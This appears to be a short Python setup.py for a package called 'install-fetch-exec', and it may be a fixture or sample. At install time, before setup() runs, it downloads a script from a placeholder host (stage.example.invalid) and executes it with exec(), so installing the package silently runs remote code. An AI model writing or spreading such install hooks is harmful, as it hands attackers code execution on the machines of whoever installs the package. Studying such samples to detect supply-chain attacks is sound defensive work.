import urllib.request
from setuptools import setup
exec(urllib.request.urlopen("http://stage.example.invalid/s.py").read())
setup(name="install-fetch-exec", version="1.0.0", packages=["install_fetch_exec"])
